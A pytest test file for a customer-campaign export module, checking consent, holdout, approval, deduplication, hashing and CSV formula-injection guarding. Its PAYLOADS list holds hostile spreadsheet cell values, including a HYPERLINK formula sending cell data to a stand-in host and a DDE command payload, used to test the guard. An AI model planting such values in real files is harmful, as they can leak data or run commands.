"""What leaves the house: only the treated, only with consent today, and nothing that executes."""

from __future__ import annotations

import csv
import hashlib
import io
import json
from dataclasses import replace
from datetime import date, timedelta
from typing import Any

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from small_shop import DAY, campaign, keys, make_shop

from ml.campaigns.assignment import empty_ledger, in_global_holdout
from ml.campaigns.cohorts import build_cohort
from ml.campaigns.export import (
    FORMATS,
    ExportRefusedError,
    Handover,
    csv_bytes,
    dry_run,
    export_cohort,
    guard,
    ndjson_bytes,
    parquet_bytes,
    unguard,
)

TRIGGERS = "=+-@|%＝＋－＠\t\r\n\0"
PAYLOADS = [
    prefix + body
    for prefix in ("", " ", "\t", "\r\n", "\0", "\u200b", "\ufeff", "\u00a0 ")
    for body in (
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        '=HYPERLINK("http://x.test?"&A1)',
        "=cmd|' /C calc'!A0",
        "|cmd",
        "%0A=1",
        "＝1+1",
        "＋1",
        "－1",
        "＠SUM(1)",
    )
]


def _read(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline="")))


def _runs(cell: str) -> bool:
    """An independent reading of the rule: does a spreadsheet see a formula here?"""
    if cell and cell[0] in "\t\r\n\0":
        return True
    visible = cell.lstrip(
        "".join(map(chr, range(33))) + "\u200b\u200c\u200d\u2060\ufeff\u00a0\u3000"
    )
    return visible[:1] in set("=+-@|%＝＋－＠")


@pytest.mark.parametrize("payload", PAYLOADS)
def test_known_payloads_are_disarmed(payload: str) -> None:
    assert _runs(payload)
    rows = _read(csv_bytes(pd.DataFrame({"name": [payload]})))
    assert rows[1] == ["'" + payload]
    assert unguard(rows[1][0]) == payload


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.one_of(
            st.text(st.characters(exclude_categories=["Cs"])),
            st.text("'" + TRIGGERS + " \u200ba", max_size=6),
        ),
        min_size=1,
        max_size=5,
    ),
    st.text(st.characters(exclude_categories=["Cs"])),
)
def test_any_text_is_safe_and_comes_back(texts: list[str], header: str) -> None:
    rows = _read(csv_bytes(pd.DataFrame({header: pd.Series(texts, dtype="object")})))
    assert len(rows) == len(texts) + 1
    assert not any(_runs(cell) for row in rows for cell in row)
    assert [unguard(row[0]) for row in rows] == [header, *texts]


@pytest.mark.parametrize(
    "text", ["", "O'Brien", "'t Hooft", "Ada", "a=b", "1-2", "x@y.test", "'", "é"]
)
def test_harmless_text_is_left_alone(text: str) -> None:
    assert guard(text) == text
    assert unguard(text) == text


def test_numbers_stay_numbers_and_missing_stays_empty() -> None:
    frame = pd.DataFrame({"amount": [-5.5, 2.0], "count": [-1, 3], "text": ["-5", None]})
    assert csv_bytes(frame) == (b'"amount","count","text"\r\n-5.5,-1,"\'-5"\r\n2.0,3,""\r\n')


def _handover(**fields: Any) -> Handover:
    return Handover.of(campaign(**fields))


@pytest.fixture
def arguments() -> dict[str, Any]:
    """The arguments of an export of 200 customers in a campaign without holdout."""
    shop = make_shop(200)
    definition = campaign(audience=[], global_holdout=0.0)
    _, cohort = build_cohort(definition, *shop.frames, empty_ledger(), DAY)
    names = [f"C{i}" for i in range(200)]
    identities = pd.DataFrame(
        {
            "customer_key": keys(200),
            "customer_id": names,
            "email": [f"{name}@shop.test" for name in names],
            "phone": [f"+49 30 {i:04d}" for i in range(200)],
            "name": ["=1+1"] * 200,
        }
    )
    return {
        "campaign": Handover.of(definition),
        "cohort": cohort,
        "identities": identities,
        "status": shop.status,
        "export_date": DAY,
    }


def _export(arguments: dict[str, Any]) -> pd.DataFrame:
    token = dry_run(**arguments).token
    export = export_cohort(**arguments, approver="Ada Lovelace", token=token)
    assert sum(map(len, export.frames.values())) == export.dry_run.rows == len(export.cohort)
    for channel, frame in export.frames.items():
        assert len(frame) == export.dry_run.rows_per_channel[channel]
        header, *rows = _read(csv_bytes(frame))
        table = pq.read_table(pa.BufferReader(parquet_bytes(frame))).to_pandas()
        lines = [json.loads(line) for line in ndjson_bytes(frame).decode().splitlines()]
        assert list(table.columns) == header == list(lines[0])
        first = [unguard(row[0]) for row in rows]
        assert first == list(table[header[0]]) == [line[header[0]] for line in lines]
    return pd.concat(export.frames.values(), ignore_index=True)


def test_the_files_hold_the_treated_and_minimal_columns(arguments: dict[str, Any]) -> None:
    table = _export(arguments)
    assert list(table.columns) == ["customer_id", "email", "campaign_id", "arm", "play", "offer"]
    cohort = arguments["cohort"]
    assert len(table) == (cohort["arm"] == "reminder").sum() > 50
    assert set(table["arm"]) == {"reminder"}
    assert set(table["offer"]) == {"We miss you"}


def test_the_same_selection_gives_the_same_bytes(arguments: dict[str, Any]) -> None:
    token = dry_run(**arguments).token
    first = export_cohort(**arguments, approver="Ada Lovelace", token=token)
    for name in ("cohort", "identities", "status"):
        arguments[name] = arguments[name].sample(frac=1, random_state=1)
    second = export_cohort(**arguments, approver="ada lovelace ", token=token)
    for write in FORMATS.values():
        assert write(first.frames["email"]) == write(second.frames["email"])


def test_a_dry_run_shows_counts_and_no_identity(arguments: dict[str, Any]) -> None:
    shown = repr(dry_run(**arguments))
    assert "reminder" in shown
    assert "shop.test" not in shown
    assert not any(key in shown for key in keys(200))


def test_consent_is_judged_on_the_day_of_the_export(arguments: dict[str, Any]) -> None:
    treated = list(arguments["cohort"].query("arm == 'reminder'")["customer_key"])
    later = DAY + timedelta(days=2)
    status = arguments["status"].assign(snapshot_date=later)
    status["has_email_consent"] = status["has_email_consent"].astype("object")
    status.loc[status["customer_key"] == treated[0], "has_email_consent"] = False
    status.loc[status["customer_key"] == treated[1], "has_email_consent"] = None
    status = status[status["customer_key"] != treated[2]]
    arguments |= {"status": status, "export_date": later}
    assert dry_run(**arguments).dropped["no_consent"] == 3
    assert len(_export(arguments)) == len(treated) - 3
    arguments["export_date"] = DAY
    with pytest.raises(ValueError, match="status is of another day"):
        dry_run(**arguments)


def test_consent_is_judged_for_the_purpose_of_the_campaign(arguments: dict[str, Any]) -> None:
    status = arguments["status"].assign(other_consents=None)
    one = arguments["cohort"].query("arm == 'reminder'")["customer_key"].iloc[0]
    status.loc[status["customer_key"] == one, "other_consents"] = "email:survey"
    arguments |= {"status": status, "campaign": replace(arguments["campaign"], purpose="survey")}
    assert dry_run(**arguments).rows == 1
    assert Handover.of(campaign(purpose="survey")).purpose == "survey"


@settings(max_examples=15, deadline=None)
@given(st.lists(st.sampled_from([True, False, None]), min_size=60, max_size=60))
def test_nobody_without_consent_ever_leaves(consents: list[bool | None]) -> None:
    shop = make_shop(60)
    definition = campaign(audience=[], global_holdout=0.0)
    _, cohort = build_cohort(definition, *shop.frames, empty_ledger(), DAY)
    identities = pd.DataFrame({"customer_key": keys(60), "customer_id": keys(60)})
    identities["email"] = identities["customer_key"] + "@shop.test"
    identities["phone"] = None
    status = shop.status.assign(has_email_consent=pd.Series(consents, dtype="object"))
    arguments = {
        "campaign": Handover.of(definition),
        "cohort": cohort,
        "identities": identities,
        "status": status,
        "export_date": DAY,
    }
    allowed = {key for key, consent in zip(keys(60), consents, strict=True) if consent is True}
    treated = set(cohort.query("arm == 'reminder'")["customer_key"])
    assert set(_export(arguments)["customer_id"]) == allowed & treated


def test_who_has_no_identity_or_no_address_or_a_second_account_is_dropped(
    arguments: dict[str, Any],
) -> None:
    treated = list(arguments["cohort"].query("arm == 'reminder'")["customer_key"])
    identities = arguments["identities"].set_index("customer_key")
    identities.loc[treated[0], "email"] = None
    identities.loc[treated[1], "email"] = "  "
    identities.loc[treated[3], "email"] = identities.loc[treated[2], "email"].upper()
    arguments["identities"] = identities.drop(treated[4]).reset_index()
    dropped = dry_run(**arguments).dropped
    assert (dropped["no_address"], dropped["duplicate_address"], dropped["no_identity"]) == (
        2,
        1,
        1,
    )
    assert len(_export(arguments)) == len(treated) - 4


def test_the_holdout_of_the_export_day_is_never_contacted(arguments: dict[str, Any]) -> None:
    next_quarter = date(2025, 7, 1)
    held = campaign(audience=[], global_holdout=0.3)
    shop = make_shop(200)
    _, cohort = build_cohort(held, *shop.frames, empty_ledger(), DAY)
    arguments |= {
        "campaign": Handover.of(held),
        "cohort": cohort,
        "export_date": next_quarter,
        "status": shop.status.assign(snapshot_date=next_quarter),
    }
    table = _export(arguments)
    names = dict(zip(arguments["identities"]["customer_id"], keys(200), strict=True))
    assert not in_global_holdout([names[i] for i in table["customer_id"]], next_quarter, 0.3).any()
    assert dry_run(**arguments).dropped["global_holdout"] > 0


@pytest.mark.parametrize("approver", ["", " ", "Somebody Else"])
def test_an_export_needs_its_approver(arguments: dict[str, Any], approver: str) -> None:
    token = dry_run(**arguments).token
    with pytest.raises(ExportRefusedError, match="approved by Ada Lovelace"):
        export_cohort(**arguments, approver=approver, token=token)


def test_neither_a_customer_nor_an_address_is_handed_over_twice(arguments: dict[str, Any]) -> None:
    treated = sorted(arguments["cohort"].query("arm == 'reminder'")["customer_key"])
    identities = arguments["identities"].set_index("customer_key")
    identities.loc[treated[0], "email"] = identities.loc[treated[2], "email"].upper()
    arguments["identities"] = identities.reset_index()
    # the account that was handed over has withdrawn its consent since; its address stays taken
    status = arguments["status"]
    arguments["status"] = status[status["customer_key"] != treated[2]]
    found = dry_run(**arguments, handed_over=[treated[2]])
    files = export_cohort(
        **arguments, handed_over=[treated[2]], approver="Ada Lovelace", token=found.token
    )
    assert found.dropped["already_exported"] == 1
    assert found.dropped["duplicate_address"] == 1
    assert not {treated[0], treated[2]} & set(files.cohort["customer_key"])
    assert len(files.cohort) == found.rows > 0


def test_an_export_needs_a_dry_run_of_this_very_selection(arguments: dict[str, Any]) -> None:
    token = dry_run(**arguments).token
    arguments["status"] = arguments["status"].copy()
    treated = arguments["cohort"].query("arm == 'reminder'")["customer_key"].iloc[0]
    is_one = arguments["status"]["customer_key"] == treated
    arguments["status"].loc[is_one, "has_email_consent"] = False
    with pytest.raises(ExportRefusedError, match="make a dry run first"):
        export_cohort(**arguments, approver="Ada Lovelace", token=token)


def test_a_cohort_of_another_campaign_is_refused(arguments: dict[str, Any]) -> None:
    arguments["cohort"] = arguments["cohort"].assign(campaign_id="another")
    with pytest.raises(ValueError, match="other campaigns"):
        dry_run(**arguments)


@pytest.mark.parametrize(("channel", "address"), [("sms", "phone"), ("post", None)])
def test_each_channel_gets_its_own_address_only(
    arguments: dict[str, Any], channel: str, address: str | None
) -> None:
    definition = campaign(audience=[], global_holdout=0.0, channels=[channel])
    arguments["campaign"] = Handover.of(definition)
    columns = ["customer_id", *([address] if address else []), "campaign_id"]
    assert list(_export(arguments).columns)[: len(columns)] == columns


def test_each_customer_is_reached_by_the_first_channel_that_works(
    arguments: dict[str, Any],
) -> None:
    arguments["campaign"] = _handover(
        audience=[], global_holdout=0.0, channels=["sms", "email", "post"]
    )
    treated = sorted(arguments["cohort"].query("arm == 'reminder'")["customer_key"])
    identities = arguments["identities"].set_index("customer_key")
    identities.loc[treated[0], "phone"] = None  # consents to sms, and has no number
    identities.loc[treated[2], ["email", "phone"]] = None
    arguments["identities"] = identities.reset_index()
    status = arguments["status"].set_index("customer_key")
    status.loc[treated[1], "has_sms_consent"] = False
    status.loc[treated[3], ["has_sms_consent", "has_email_consent", "has_post_consent"]] = False
    arguments["status"] = status.reset_index()
    found = dry_run(**arguments)
    assert found.rows_per_channel == {"sms": len(treated) - 4, "email": 2, "post": 1}
    assert found.dropped["no_consent"] == 1
    export = export_cohort(**arguments, approver="Ada Lovelace", token=found.token)
    by_channel = export.cohort.groupby("channel")["customer_key"].agg(set)
    assert by_channel["email"] == {treated[0], treated[1]}
    assert by_channel["post"] == {treated[2]}
    assert "phone" not in export.frames["email"]
    assert "email" not in export.frames["sms"]


def test_an_audience_of_an_advertiser_holds_hashes_and_nothing_else(
    arguments: dict[str, Any],
) -> None:
    arguments["campaign"] = _handover(audience=[], global_holdout=0.0, channels=["ads"])
    treated = sorted(arguments["cohort"].query("arm == 'reminder'")["customer_key"])
    identities = arguments["identities"].set_index("customer_key")
    identities.loc[treated[0], "email"] = " Ada@Shop.TEST "
    identities.loc[treated[0], "phone"] = "0049 (30) 12-34"
    identities.loc[treated[1], "email"] = None
    identities.loc[treated[2], "email"] = None
    identities.loc[treated[2], "phone"] = "030 1234"  # of no country: nothing to match by
    arguments["identities"] = identities.reset_index()
    table = _export(arguments)
    assert list(table.columns) == ["email_sha256", "phone_sha256", "campaign_id", "arm"]
    assert hashlib.sha256(b"ada@shop.test").hexdigest() in set(table["email_sha256"])
    assert hashlib.sha256(b"+49301234").hexdigest() in set(table["phone_sha256"])
    assert (table["email_sha256"] == "").sum() == 1
    assert len(table) == len(treated) - 1
    assert dry_run(**arguments).dropped["no_address"] == 1
    for write in FORMATS.values():
        assert b"shop.test" not in write(table).lower()


def test_the_suppressed_are_dropped_whatever_they_consent_to(arguments: dict[str, Any]) -> None:
    treated = sorted(arguments["cohort"].query("arm == 'reminder'")["customer_key"])
    token = dry_run(**arguments).token
    arguments["suppressed"] = treated[:3]
    found = dry_run(**arguments)
    assert found.dropped["suppressed"] == 3
    with pytest.raises(ExportRefusedError, match="make a dry run first"):
        export_cohort(**arguments, approver="Ada Lovelace", token=token)
    export = export_cohort(**arguments, approver="Ada Lovelace", token=found.token)
    assert set(export.cohort["customer_key"]) == set(treated[3:])
